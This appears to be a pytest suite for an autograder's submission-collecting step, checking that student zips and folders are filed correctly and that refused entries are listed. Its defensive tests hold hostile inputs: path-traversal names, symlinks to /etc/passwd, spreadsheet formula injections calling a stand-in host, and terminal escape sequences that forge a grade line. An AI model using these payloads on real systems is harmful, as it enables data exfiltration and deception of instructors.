"""collect: how a class's zip or folder maps to students, and that nothing is lost or misfiled.

No kernel runs here: a course with two (empty) lessons is enough, since collect only copies files.
"""
import csv
import os
import re
import stat
import struct
import time
import warnings
import zipfile
import zlib

import nbformat
import pytest

from autograder import grading
from autograder.collect import student_id
from autograder.records import ManualRecord
from autograder.sandbox import remove_tree

A, B = "01_tokenization", "03_attention"


@pytest.fixture
def course(tmp_path):
    for name in (A, B):
        (tmp_path / "solutions" / name).mkdir(parents=True)
        nbformat.write(nbformat.v4.new_notebook(), tmp_path / "solutions" / name / f"{name}.ipynb")
    return grading.Paths(root=tmp_path, work=tmp_path / "autograder", release=tmp_path / "lessons")


def _zip(path, entries, links=()):
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        for name, target in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def _submitted(paths):
    return {p.relative_to(paths.submitted).as_posix(): p.read_bytes() for p in paths.submitted.rglob("*.ipynb")}


def _not_collected(paths):
    return {(r["student"], r["lesson"], r["detail"]) for r in grading.grades(paths) if r["status"] == "not collected"}


def test_lms_layouts_map_to_the_right_students(course, tmp_path):
    inbox = _zip(tmp_path / "class.zip", {
        f"export/alice/{A}.ipynb": b"alice-a",                     # wrapper folder, then <student>/<lesson>
        f"export/bob/attempt 2/{A}.ipynb": b"bob-a",               # any folders below the student's
        f"export/nest-a/work/{A}.ipynb": b"nest-a",                # same leaf folder name: no collision
        f"export/nest-b/work/{A}.ipynb": b"nest-b",
        f"export/deep-student/{A}/{A}.ipynb": b"deep",             # a folder named like the lesson is not a student
        f"export/José García/{A} (1).ipynb": b"jose",              # accents, spaces, a copy suffix
        f"export/carol/03_Attention.IPYNB": b"carol-b",            # wrong case
        f"export/王伟/{A}.ipynb": b"wang",                          # no ASCII form: each name its own id
        f"export/李娜/{A}.ipynb": b"li",
        f"export/Иван Петров/{A}.ipynb": b"ivan",
        f"export/Олег Петров/{A}.ipynb": b"oleg",
        f"export/__MACOSX/alice/._{A}.ipynb": b"junk",             # macOS zip litter: ignored
    })
    collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
    ids = {name: student_id(name) for name in ("王伟", "李娜", "Иван Петров", "Олег Петров")}
    assert len(set(ids.values())) == 4 and all(re.fullmatch(r"xn--[A-Za-z0-9_.@+-]+", i) for i in ids.values()), ids
    assert sorted(collected) == sorted([("alice", A), ("bob", A), ("nest-a", A), ("nest-b", A),
                                        ("deep-student", A), ("Jose_Garcia", A), ("carol", B)]
                                       + [(i, A) for i in ids.values()])
    got = _submitted(course)
    assert got[f"{ids['王伟']}/{A}/{A}.ipynb"] == b"wang" and got[f"{ids['Олег Петров']}/{A}/{A}.ipynb"] == b"oleg"
    assert got[f"nest-a/{A}/{A}.ipynb"] == b"nest-a" and got[f"nest-b/{A}/{A}.ipynb"] == b"nest-b"
    assert got[f"deep-student/{A}/{A}.ipynb"] == b"deep" and got[f"Jose_Garcia/{A}/{A}.ipynb"] == b"jose"
    assert got[f"carol/{B}/{B}.ipynb"] == b"carol-b"
    assert _not_collected(course) == set()


def test_only_macos_appledouble_files_are_litter_and_a_folder_entry_holding_data_is_listed(course, tmp_path):
    """A notebook in a folder named __MACOSX was dropped without a word, and so was a zip entry named as a
    folder that holds data (rt22, 2026-12-05): only macOS's ``._`` files there are litter."""
    inbox = _zip(tmp_path / "class.zip", {
        f"alice/{A}.ipynb": b"alice",
        f"__MACOSX/alice/._{A}.ipynb": b"finder data",           # litter: not listed
        f"kim/__MACOSX/{A}.ipynb": b"kim",                        # a student's notebook, however odd the folder
        "lee/": b"hidden in a folder entry",
    })
    said = []
    assert sorted(grading.collect(inbox, paths=course, on_skip=said.append)) == [("alice", A), ("kim", A)]
    assert _submitted(course)[f"kim/{A}/{A}.ipynb"] == b"kim"
    listed = _not_collected(course)
    assert len(listed) == 1 and len(said) == 1, (listed, said)
    (detail,) = [d for _, _, d in listed]
    assert detail.startswith("lee/") and "ending in '/'" in detail and "24 bytes" in detail, detail


def test_every_entry_not_taken_is_listed_in_status_and_the_csv(course, tmp_path):
    inbox = _zip(tmp_path / "class.zip", {
        f"alice/{A}.ipynb": b"ok",
        f"../{A}.ipynb": b"traversal",
        f"/abs/{A}.ipynb": b"absolute",
        f"{A}.ipynb": b"no student folder",
        "dave/notes.txt": b"not a notebook",
        "dave/homework.ipynb": b"no such lesson",
        f"erin/{A}.ipynb": b"one", f"erin/old/{A}.ipynb": b"two",   # two hand-ins for one lesson
        f"Frank/{A}.ipynb": b"f1", f"frank/{A}.ipynb": b"f2",       # same id ignoring case
    }, links=[(f"gina/{A}.ipynb", "/etc/passwd")])
    said = []
    assert grading.collect(inbox, paths=course, on_skip=said.append) == [("alice", A)]
    listed = _not_collected(course)
    reasons = {detail.split(" in class.zip: ")[0]: detail for _, _, detail in listed}
    for entry, words in [(f"../{A}.ipynb", "unsafe path"), (f"/abs/{A}.ipynb", "unsafe path"),
                         (f"{A}.ipynb", "no student folder"), ("dave/notes.txt", "not a notebook"),
                         ("dave/homework.ipynb", "no lesson named 'homework'"),
                         (f"erin/{A}.ipynb", "2 notebooks"), (f"erin/old/{A}.ipynb", "2 notebooks"),
                         (f"Frank/{A}.ipynb", "give the student id"), (f"frank/{A}.ipynb", "give the student id"),
                         (f"gina/{A}.ipynb", "symbolic link")]:
        assert words in reasons.get(entry, ""), (entry, reasons)
    assert len(said) == len(listed) == 10
    assert set(_submitted(course)) == {f"alice/{A}/{A}.ipynb"}
    out = grading.export(tmp_path / "grades.csv", paths=course)
    with open(out) as f:
        rows = [r for r in csv.DictReader(f) if r["status"] == "not collected"]
    assert len(rows) == 10 and all(r["detail"] and r["score"] == "" for r in rows)
    # the fixed zip, saved under the same name: erin is collected, so her rows go; the entries it does
    # not hold again stay listed (a new download of the same path is not the whole class)
    _zip(inbox, {f"alice/{A}.ipynb": b"ok", f"erin/{A}.ipynb": b"one"})
    grading.collect(inbox, paths=course, on_skip=said.append)
    assert _not_collected(course) == {row for row in listed if row[0] != "erin"}


def test_jupyter_checkpoint_copies_are_litter_beside_the_notebook_and_listed_alone(course, tmp_path):
    # a student zips their Jupyter folder: .ipynb_checkpoints/ holds an autosaved copy of each notebook
    inbox = _zip(tmp_path / "class.zip", {
        f"alice/{A}.ipynb": b"alice", f"alice/.ipynb_checkpoints/{A}-checkpoint.ipynb": b"alice-autosave",
        f"bob/.ipynb_checkpoints/{A}-checkpoint.ipynb": b"bob's only copy",   # the notebook itself missing
        f"carol/{B}.ipynb": b"carol", f"carol/.ipynb_checkpoints/{A}-checkpoint.ipynb": b"other lesson",
    })
    said = []
    assert sorted(grading.collect(inbox, paths=course, on_skip=said.append)) == [("alice", A), ("carol", B)]
    assert _submitted(course) == {f"alice/{A}/{A}.ipynb": b"alice", f"carol/{B}/{B}.ipynb": b"carol"}
    listed = _not_collected(course)
    assert {(who, lesson) for who, lesson, _ in listed} == {("bob", A), ("carol", A)}, listed
    assert all("checkpoint copy" in detail and f"no {A}.ipynb beside it" in detail for _, _, detail in listed)
    assert len(said) == 2  # alice's copy beside her notebook is not even mentioned
    # bob hands in the notebook itself: his row goes
    grading.collect(_zip(tmp_path / "late.zip", {f"bob/{A}.ipynb": b"bob"}), paths=course, on_skip=said.append)
    assert {(who, lesson) for who, lesson, _ in _not_collected(course)} == {("carol", A)}


def test_a_folder_source_never_follows_links(course, tmp_path):
    inbox = tmp_path / "inbox"
    (inbox / "alice").mkdir(parents=True)
    (inbox / "alice" / f"{A}.ipynb").write_bytes(b"alice")
    secret = tmp_path / "solution.ipynb"
    secret.write_bytes(b"the instructor's solution")
    (inbox / "mallory").mkdir()
    os.symlink(secret, inbox / "mallory" / f"{A}.ipynb")
    os.symlink(inbox / "alice", inbox / "alias")  # a linked student folder
    collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
    assert collected == [("alice", A)]
    assert b"the instructor's solution" not in b"".join(_submitted(course).values())
    details = {d for _, _, d in _not_collected(course)}
    assert any(d.startswith(f"mallory/{A}.ipynb") and "symbolic link" in d for d in details), details
    assert any(d.startswith("alias") and "symbolic link" in d for d in details), details


def test_only_one_lesson_is_collected_when_asked(course, tmp_path):
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"a", f"alice/{B}.ipynb": b"b", "x/../y.ipynb": b""})
    assert grading.collect(inbox, lesson=B, paths=course, on_skip=lambda m: None) == [("alice", B)]
    assert [d for _, _, d in _not_collected(course)] == ["x/../y.ipynb in class.zip: unsafe path (absolute, or "
                                                         "with '..'): refused"]


def test_no_cell_of_the_exported_csv_starts_a_spreadsheet_formula(course, tmp_path):
    """The instructor opens grades.csv in a spreadsheet. A name a student chose (a folder, a zip entry)
    that starts with = + - @ would be read there as a formula (=IMPORTXML(…) sends the sheet's cells
    to any address): no cell of the export starts a formula, and no student id starts with one."""
    inbox = _zip(tmp_path / "class.zip", {
        f'=HYPERLINK("http://x.example/?"&B2)/{A}.ipynb': b"a",
        f"+1+2/{A}.ipynb": b"b",
        f"-bob/{A}.ipynb": b"c",
        f"@SUM/{A}.ipynb": b"d",
        "=IMPORTXML(\"http://x.example\").ipynb": b"no student folder",
        f"alice/{A}.ipynb": b"ok",
    })
    collected = grading.collect(inbox, paths=course)
    assert all(not student[0] in "=+-@" for student, _ in collected), collected
    out = grading.export(tmp_path / "grades.csv", paths=course)
    with open(out, newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert any("IMPORTXML" in c for c in cells), cells  # the entry is still listed, as text
    starting = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not starting, starting
    assert student_id("-bob") == "bob" and student_id("@@x") == "x" and student_id("a-b+c@d") == "a-b+c@d"


def test_status_and_the_csv_show_control_characters_as_escapes(course, tmp_path):
    """A zip entry's name (and what a student's code raised) reaches `status` and the CSV: an escape
    sequence there could erase the line above in the instructor's terminal and print a forged one,
    and a right-to-left override could reorder the line. They are shown as escapes."""
    forged = "\x1b[1A\x1b[2Kalice/01_tokenization graded 8.0/8\u202e"
    inbox = _zip(tmp_path / "class.zip", {f"{forged}.ipynb": b"no student folder", f"alice/{A}.ipynb": b"ok"})
    said = []
    grading.collect(inbox, paths=course, on_skip=said.append)
    assert len(said) == 1 and "\x1b" not in said[0] and "\\x1b[1A" in said[0], said
    details = [r["detail"] for r in grading.grades(course) if r["status"] == "not collected"]
    assert len(details) == 1 and "\\x1b[1A\\x1b[2K" in details[0] and "\\u202e" in details[0], details
    assert not any(ch in details[0] for ch in "\x1b\u202e")
    with open(grading.export(tmp_path / "grades.csv", paths=course), newline="") as f:
        assert "\x1b" not in f.read()


def test_a_damaged_zip_entry_is_listed_and_the_others_are_taken(course, tmp_path):
    """One entry with a bad checksum (a truncated or garbled download) made the whole collect fail, so
    that nobody was collected (a red team's, 2026-12-01)."""
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"alice-a" * 50, f"bob/{A}.ipynb": b"bob-a" * 50})
    data = bytearray(inbox.read_bytes())
    at = data.index(b"bob-a")  # bob's stored bytes (no compression): one flipped
    data[at] ^= 0xFF
    inbox.write_bytes(bytes(data))
    collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
    assert collected == [("alice", A)]
    (why,) = [d for s, lesson, d in _not_collected(course) if s == "bob" and lesson == A]
    assert "could not be read from the zip" in why and "hand it in again" in why, why


def test_a_late_hand_in_of_one_known_student_is_not_read_as_a_wrapper(course, tmp_path):
    """alice/attempt 1/L.ipynb and alice/attempt 2/L.ipynb: every notebook under one folder, two levels
    down, is the wrapper rule's shape; but alice is a student already collected, so it is hers (two
    notebooks for one lesson: neither taken, said why), not the students 'attempt_1' and 'attempt_2'.
    And bob's late zip of bob/alice/L.ipynb is bob's: it replaced alice's hand-in (a red team's, 2026-12-01)."""
    grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"alice", f"bob/{A}.ipynb": b"bob"}),
                    paths=course, on_skip=lambda m: None)
    late = _zip(tmp_path / "late.zip", {f"alice/attempt 1/{A}.ipynb": b"a1", f"alice/attempt 2/{A}.ipynb": b"a2"})
    assert grading.collect(late, paths=course, on_skip=lambda m: None) == []
    assert any(s == "alice" and "2 notebooks" in d for s, _, d in _not_collected(course))
    notes = []
    bob_late = _zip(tmp_path / "bob_late.zip", {f"bob/alice/{A}.ipynb": b"bob again"})
    assert grading.collect(bob_late, paths=course, on_skip=lambda m: None, on_note=notes.append) == [("bob", A)]
    got = _submitted(course)
    assert got[f"alice/{A}/{A}.ipynb"] == b"alice" and got[f"bob/{A}/{A}.ipynb"] == b"bob again"
    assert any("bob/" in n and "replaces a different one" in n for n in notes), notes
    assert not (course.submitted / "attempt_1").exists()


def test_the_wrapper_rule_says_what_it_did_and_can_be_decided_by_hand(course, tmp_path):
    one = _zip(tmp_path / "one.zip", {f"alice/attempt 1/{A}.ipynb": b"a1", f"alice/attempt 2/{B}.ipynb": b"a2"})
    notes = []
    assert sorted(grading.collect(one, paths=course, on_skip=lambda m: None, on_note=notes.append)) == \
        [("attempt_1", A), ("attempt_2", B)]
    assert any("'alice'" in n and "--no-wrapper" in n for n in notes), notes
    other = grading.Paths(root=course.root, work=tmp_path / "other", release=course.release)
    assert sorted(grading.collect(one, paths=other, on_skip=lambda m: None, wrapper=False)) == [("alice", A), ("alice", B)]
    # and a wrapper around students already known, dropped when asked
    again = _zip(tmp_path / "again.zip", {f"alice/bob/{A}.ipynb": b"b"})
    assert grading.collect(again, paths=other, on_skip=lambda m: None, wrapper=True) == [("bob", A)]


def test_collecting_one_lesson_lists_what_names_no_lesson_and_keeps_the_other_lessons_rows(course, tmp_path):
    """collect --lesson L dropped, without a word, the notebooks that name no lesson, and erased what an
    earlier collect of the same zip listed for the other lessons (a red team's, 2026-12-02)."""
    inbox = _zip(tmp_path / "class.zip", {
        f"alice/{A}.ipynb": b"a", f"alice/old/{A}.ipynb": b"a-old",      # two for A: neither taken
        f"bob/{B}.ipynb": b"b", f"bob/old/{B}.ipynb": b"b-old",          # two for B: neither taken
        "carol/01_tokenisation.ipynb": b"misspelled",                    # names no lesson
        "smith_john_12345_01_tokenization.ipynb": b"flat",               # an LMS's flat name (listed under A)
    })
    grading.collect(inbox, paths=course, on_skip=lambda m: None)
    before = _not_collected(course)
    assert {(s, lesson) for s, lesson, _ in before} == {("alice", A), ("bob", B), ("carol", "?"), ("?", A)}
    notes = []
    assert grading.collect(inbox, lesson=A, paths=course, on_skip=lambda m: None, on_note=notes.append) == []
    assert _not_collected(course) == before  # bob's rows (lesson B) kept; carol's still listed
    assert any(f"2 notebooks of {B}" in n for n in notes), notes  # B's left for its own collect, and said
    # lesson by lesson: collecting B does not erase what collecting A listed
    fresh = grading.Paths(root=course.root, work=tmp_path / "other", release=course.release)
    grading.collect(inbox, lesson=A, paths=fresh, on_skip=lambda m: None, on_note=lambda m: None)
    grading.collect(inbox, lesson=B, paths=fresh, on_skip=lambda m: None, on_note=lambda m: None)
    assert _not_collected(fresh) == before


def test_a_new_download_at_the_same_path_keeps_the_rows_of_the_entries_it_does_not_hold(course, tmp_path):
    """An LMS's "new submissions only" download saved under the same name erased the rows of the
    earlier one: bob, never collected, vanished from status (a red team's, 2026-12-02)."""
    inbox = _zip(tmp_path / "lesson.zip", {f"alice/{A}.ipynb": b"a", f"bob/{A}.ipynb": b"b1",
                                           f"bob/{A} (1).ipynb": b"b2", "dave/notes.txt": b"x"})
    grading.collect(inbox, paths=course, on_skip=lambda m: None)
    listed = _not_collected(course)
    assert {s for s, _, _ in listed} == {"bob", "dave"}
    _zip(inbox, {f"carol/{A}.ipynb": b"c"})  # the next download: only what is new since
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None) == [("carol", A)]
    assert _not_collected(course) == listed
    # bob's one notebook, now alone: taken, and his rows go; dave's notes, seen again, listed again
    _zip(inbox, {"dave/notes.txt": b"x", f"bob/{A} (1).ipynb": b"b2"})
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None) == [("bob", A)]
    assert {(s, d.split(":")[0]) for s, _, d in _not_collected(course)} == {("dave", "dave/notes.txt in lesson.zip")}


def test_collecting_one_of_two_folders_with_one_id_keeps_the_other_listed(course, tmp_path):
    """'José García' and 'Jose Garcia' give one id: both refused. A late zip of 'Jose Garcia' alone
    erased the row of 'José García', whose hand-in was then nowhere (a red team's, 2026-12-02)."""
    grading.collect(_zip(tmp_path / "class.zip", {f"José García/{A}.ipynb": b"accent", f"Jose Garcia/{A}.ipynb": b"plain",
                                                  f"bob/{A}.ipynb": b"b"}), paths=course, on_skip=lambda m: None)
    assert len(_not_collected(course)) == 2
    late = _zip(tmp_path / "late.zip", {f"Jose Garcia/{A}.ipynb": b"plain"})
    assert grading.collect(late, paths=course, on_skip=lambda m: None) == [("Jose_Garcia", A)]
    (row,) = _not_collected(course)
    assert row[0] == "Jose_Garcia" and row[2].startswith(f"José García/{A}.ipynb in class.zip"), row


def test_entries_refused_early_do_not_decide_the_wrapper(course, tmp_path):
    """An unsafe entry, a link or an oversized notebook outside the one top folder made it no wrapper:
    the whole class was filed as one student 'Lesson_01'; a Windows zip's backslash names were only
    made '/' for the entries read, so its refused entry lay outside the wrapper (a red team's, 2026-12-02)."""
    one = _zip(tmp_path / "one.zip", {f"Lesson 01/alice/{A}.ipynb": b"a", f"Lesson 01/bob/{B}.ipynb": b"b",
                                      f"../{A}.ipynb": b"x"}, links=[(f"elsewhere/mallory/{A}.ipynb", "/etc/passwd")])
    assert sorted(grading.collect(one, paths=course, on_skip=lambda m: None, on_note=lambda m: None)) == \
        [("alice", A), ("bob", B)]
    win = _zip(tmp_path / "win.zip", {f"export\\alice\\{A}.ipynb": b"a", f"export\\bob\\{A}.ipynb": b"b"},
               links=[(f"export\\carol\\{A}.ipynb", "/etc/passwd")])
    other = grading.Paths(root=course.root, work=tmp_path / "other", release=course.release)
    assert sorted(grading.collect(win, paths=other, on_skip=lambda m: None, on_note=lambda m: None)) == \
        [("alice", A), ("bob", A)]
    assert {(s, d.split(":")[0]) for s, _, d in _not_collected(other)} == {("carol", f"export/carol/{A}.ipynb in win.zip")}
    assert sorted(p.name for p in other.submitted.iterdir()) == ["alice", "bob"]


def test_the_wrapper_flag_is_refused_where_it_cannot_apply(course, tmp_path):
    """--wrapper was ignored without a word when one notebook lay outside the top folder: the class was
    filed under a student 'export' (a red team's, 2026-12-02). It is refused, saying why, and nothing
    is collected."""
    stray = _zip(tmp_path / "class.zip", {f"export/alice/{A}.ipynb": b"a", f"export/bob/{B}.ipynb": b"b",
                                          f"{A}.ipynb": b"the instructor's own copy"})
    with pytest.raises(SystemExit, match=r"--wrapper.*'01_tokenization.ipynb'"):
        grading.collect(stray, paths=course, on_skip=lambda m: None, wrapper=True)
    flat = _zip(tmp_path / "flat.zip", {f"export/{A}.ipynb": b"a", f"export/alice/{B}.ipynb": b"b"})
    with pytest.raises(SystemExit, match=r"--wrapper.*'export/01_tokenization.ipynb'"):
        grading.collect(flat, paths=course, on_skip=lambda m: None, wrapper=True)
    assert not course.submitted.exists() and _not_collected(course) == set()


def test_a_later_folder_whose_id_differs_only_in_case_is_the_same_student(course, tmp_path):
    """'alice' from one download and 'Alice' from the next were two students, both graded and exported;
    one zip with both refuses them as one id (a red team's, 2026-12-02)."""
    grading.collect(_zip(tmp_path / "first.zip", {f"alice/{A}.ipynb": b"v1"}), paths=course, on_skip=lambda m: None)
    notes = []
    second = _zip(tmp_path / "second.zip", {f"Alice/{A}.ipynb": b"v2", f"Alice/{B}.ipynb": b"b"})
    assert sorted(grading.collect(second, paths=course, on_skip=lambda m: None, on_note=notes.append)) == \
        [("alice", A), ("alice", B)]
    assert [p.name for p in course.submitted.iterdir()] == ["alice"]
    assert _submitted(course)[f"alice/{A}/{A}.ipynb"] == b"v2"
    assert any("Alice/" in n and "'alice'" in n for n in notes), notes


def test_distinct_names_give_distinct_ids(course):
    """Combining marks were dropped before punycode, so Йован and Иован, ばるか and はるか shared an id
    (the second hand-in replaced the first); and ids cut at 100 characters could meet (a red team's,
    2026-12-02). Accents are dropped only where that leaves plain ASCII."""
    pairs = [("Йован", "Иован"), ("ばるか", "はるか"), ("ป่า", "ปา"), ("अमित्", "अमित"), ("Łukasz Wójcik", "Łukasz Wojcik"),
             ("a" * 120 + "x", "a" * 120 + "y")]
    for one, other in pairs:
        assert student_id(one) != student_id(other), (one, other)
        assert len(student_id(one)) <= 100 and re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.@+-]*", student_id(one))
    assert student_id("José García") == "Jose_Garcia"
    assert student_id("Łukasz") == "xn--" + "łukasz".encode("punycode").decode()  # case folded, then punycode
    assert student_id("王伟") == "xn--cpqu10g" and student_id("b" * 100) == "b" * 100
    assert student_id("Jose\u0301") == student_id("Jos\u00e9") == "Jose"  # one name, however it is encoded


def test_a_name_in_capitals_gives_the_same_id_ignoring_case(course, tmp_path):
    """Ids are compared ignoring case, but the case of Ł, И or Ø lived inside the punycode, and a long
    name's hash was of the name as cased: `Paweł Król` and `PAWEŁ KRÓL` became two students (a red
    team's, 2026-12-02). And one folder, its name written once in NFC and once in NFD in the same zip,
    was refused as two folders giving one id."""
    for one, other in [("Paweł Król", "PAWEŁ KRÓL"), ("Иван", "ИВАН"), ("Søren", "SØREN"), ("王伟", "王伟"),
                       ("Moodle " * 15 + "Łukasz_12345_assignsubmission_file_", "MOODLE " * 15 + "ŁUKASZ_12345_assignsubmission_file_"),
                       ("anna " * 25, "ANNA " * 25)]:
        assert student_id(one).lower() == student_id(other).lower(), (one, other)
    assert student_id("Иван") != student_id("Иона")
    inbox = tmp_path / "inbox.zip"
    with zipfile.ZipFile(inbox, "w") as archive:
        archive.writestr(f"Jos\u00e9/{A}.ipynb", b"nfc")
        archive.writestr(f"Jose\u0301/{B}.ipynb", b"nfd")
    said = []
    collected = grading.collect(inbox, paths=course, on_skip=said.append)
    assert sorted(collected) == [("Jose", A), ("Jose", B)], (collected, said)


def test_a_student_collected_under_an_id_made_before_ids_folded_case_stays_there(course, tmp_path):
    (course.submitted / "xn--ukasz-d7a" / A).mkdir(parents=True)  # Łukasz, as collected before 2026-12-02
    (course.submitted / "xn--ukasz-d7a" / A / f"{A}.ipynb").write_bytes(b"v1")
    said = []
    collected = grading.collect(_zip(tmp_path / "again.zip", {f"Łukasz/{A}.ipynb": b"v2"}), paths=course,
                                on_note=said.append, on_skip=said.append)
    assert collected == [("xn--ukasz-d7a", A)], (collected, said)
    assert sorted(p.name for p in course.submitted.iterdir()) == ["xn--ukasz-d7a"]


def test_a_refused_notebook_still_counts_as_one_of_two_for_its_lesson(course, tmp_path, monkeypatch):
    """alice's final notebook, too big, was refused first; her old draft, then alone, was taken as her
    hand-in (a red team's, 2026-12-02). Two notebooks for one lesson: neither is taken."""
    from autograder import collect
    monkeypatch.setattr(collect, "MAX_MEMBER", 100)
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"final" * 100, f"alice/draft/{A}.ipynb": b"draft",
                                          f"bob/draft/{A}.ipynb": b"bob-draft"},
                 links=[(f"bob/{A}.ipynb", "/etc/passwd")])
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None) == []
    details = {d.split(" in class.zip: ")[0]: d for _, _, d in _not_collected(course)}
    assert "2 notebooks" in details[f"alice/draft/{A}.ipynb"] and "bytes unpacked" in details[f"alice/{A}.ipynb"]
    assert "2 notebooks" in details[f"bob/draft/{A}.ipynb"] and "symbolic link" in details[f"bob/{A}.ipynb"]


def test_backups_of_replaced_hand_ins_never_overwrite_each_other(course, tmp_path, monkeypatch):
    """backups/submitted-<second>/: two replacements within one second (a script looping over zips, the
    API) wrote the same backup, and the older kept version was lost (a red team's, 2026-12-02)."""
    import time
    monkeypatch.setattr(time, "strftime", lambda fmt, *args: "20261202-120000")  # every collect in one second
    for version in (b"v1", b"v2", b"v3"):
        grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": version}), paths=course,
                        on_skip=lambda m: None, on_note=lambda m: None)
    kept = sorted(p.read_bytes() for p in course.backups.rglob(f"{A}.ipynb"))
    assert kept == [b"v1", b"v2"], kept


def _patch_last_central_header(path, patch):
    data = bytearray(path.read_bytes())
    patch(data, data.rindex(b"PK\x01\x02"))
    path.write_bytes(bytes(data))
    return path


def test_a_zip_entry_python_cannot_read_is_listed_and_an_unreadable_zip_is_one_line(course, tmp_path):
    """An entry flagged UTF-8 whose name is not, or one that asks for a newer zip version, made Python
    refuse the whole zip: a traceback, nobody collected. A damaged central directory, and export to a
    folder, gave tracebacks too (a red team's, 2026-12-02)."""
    def bad_name(data, at):
        struct.pack_into("<H", data, at + 8, struct.unpack_from("<H", data, at + 8)[0] | 0x800)
        data[data.index(b"JosX", at) + 3] = 0xE9  # 'Jos\xe9': Latin-1, not UTF-8
    flag = _patch_last_central_header(_zip(tmp_path / "flag.zip", {f"alice/{A}.ipynb": b"a", f"JosX/{A}.ipynb": b"j"}),
                                      bad_name)
    assert grading.collect(flag, paths=course, on_skip=lambda m: None) == [("alice", A)]
    (why,) = [d for _, _, d in _not_collected(course)]
    assert "not valid UTF-8" in why, why

    def newer(data, at):
        data[at + 6] = 64
    ver = _patch_last_central_header(_zip(tmp_path / "ver.zip", {f"carol/{A}.ipynb": b"c", f"bob/{A}.ipynb": b"b"}), newer)
    assert grading.collect(ver, paths=course, on_skip=lambda m: None) == [("carol", A)]
    assert any(d.startswith(f"bob/{A}.ipynb in ver.zip") and "zip version 6.4" in d for _, _, d in _not_collected(course))

    def damaged(data, at):
        data[at:at + 4] = b"XXXX"
    cd = _patch_last_central_header(_zip(tmp_path / "cd.zip", {f"dave/{A}.ipynb": b"d", f"erin/{A}.ipynb": b"e"}), damaged)
    with pytest.raises(SystemExit, match=r"cd.zip.*cannot be read as a zip.*collect the folder") as raised:
        grading.collect(cd, paths=course, on_skip=lambda m: None)
    assert "\n" not in str(raised.value)
    (tmp_path / "out").mkdir()
    with pytest.raises(SystemExit, match="is a folder"):
        grading.export(tmp_path / "out", paths=course)


def test_entries_are_read_one_at_a_time_and_only_when_taken(course, tmp_path, monkeypatch):
    """Every entry under 50 MB, notebook or not, any lesson, was held in memory at once: a 1 MB zip of
    deflated zeros took 1 GB (a red team's, 2026-12-02). Only the notebooks taken are read, each
    written before the next is read."""
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"a", f"bob/{A}.ipynb": b"b", f"alice/{B}.ipynb": b"ab",
                                          "mallory/video.mp4": b"\0" * 1000, "mallory/data.ipynb": b"x"})
    reads = []
    real = zipfile.ZipFile.open  # (every read of an entry's data opens it)

    def read(archive, member, *args, **kwargs):
        reads.append((getattr(member, "filename", member), sorted(_submitted(course))))
        return real(archive, member, *args, **kwargs)
    monkeypatch.setattr(zipfile.ZipFile, "open", read)
    assert grading.collect(inbox, lesson=A, paths=course, on_skip=lambda m: None, on_note=lambda m: None) == \
        [("alice", A), ("bob", A)]
    assert reads == [(f"alice/{A}.ipynb", []), (f"bob/{A}.ipynb", [f"alice/{A}/{A}.ipynb"])], reads


def test_an_unreadable_folder_in_a_folder_source_is_listed(course, tmp_path, monkeypatch):
    """os.walk skipped a student's folder it could not read without a word: bob was neither collected
    nor listed (a red team's, 2026-12-02). Simulated: the tests may run as root, who reads everything."""
    for who in ("alice", "bob"):
        (tmp_path / "in" / who).mkdir(parents=True)
        (tmp_path / "in" / who / f"{A}.ipynb").write_bytes(who.encode())
    real = os.scandir

    def scandir(path="."):
        if str(path).rstrip("/").endswith("/bob"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)
    monkeypatch.setattr(os, "scandir", scandir)
    assert grading.collect(tmp_path / "in", paths=course, on_skip=lambda m: None) == [("alice", A)]
    (row,) = _not_collected(course)
    assert row[0] == "bob" and "could not be read" in row[2] and "PermissionError" in row[2], row


@pytest.mark.filterwarnings("ignore:Object of type <SubmittedAssignment> not in session")  # nbgrader's add_submission
def test_a_hand_in_where_there_was_none_forgets_the_gradebooks_old_grading(course, tmp_path, monkeypatch):
    """alice's graded folder deleted by hand, then a new file collected: the gradebook kept the old
    grading, shown by the formgrader and nbgrader's own export for the new file (a red team's, 2026-12-02)."""
    from nbgrader.api import MissingEntry
    from autograder.gradebook import open_gradebook
    course.work.mkdir(parents=True)
    with open_gradebook(course) as gradebook:
        gradebook.add_assignment(A)
        for who in ("alice", "bob"):
            gradebook.add_student(who)
            gradebook.add_submission(A, who)
    notes = []
    assert grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"new", f"carol/{A}.ipynb": b"c"}),
                           paths=course, on_skip=lambda m: None, on_note=notes.append) == [("alice", A), ("carol", A)]
    with open_gradebook(course) as gradebook:
        with pytest.raises(MissingEntry):
            gradebook.find_submission(A, "alice")
        assert gradebook.find_submission(A, "bob")  # not collected now: untouched
    assert any("alice/" in n and "earlier file" in n for n in notes), notes
    assert list(course.backups.glob("gradebook-*-collect.db"))


def test_jupyter_and_colab_copy_names_are_the_lesson(course, tmp_path):
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}-Copy1.ipynb": b"a", f"bob/Copy of {A}.ipynb": b"b",
                                          f"carol/Copy of {B} (2).ipynb": b"c", f"dave/{A} (1).ipynb": b"d",
                                          # a Jupyter copy downloaded twice (ch59: "no lesson named 'L-Copy1 (1)'")
                                          f"erin/{A}-Copy1 (1).ipynb": b"e", f"fay/{B} (1) (2).ipynb": b"f"})
    assert sorted(grading.collect(inbox, paths=course, on_skip=lambda m: None)) == \
        [("alice", A), ("bob", A), ("carol", B), ("dave", A), ("erin", A), ("fay", B)]


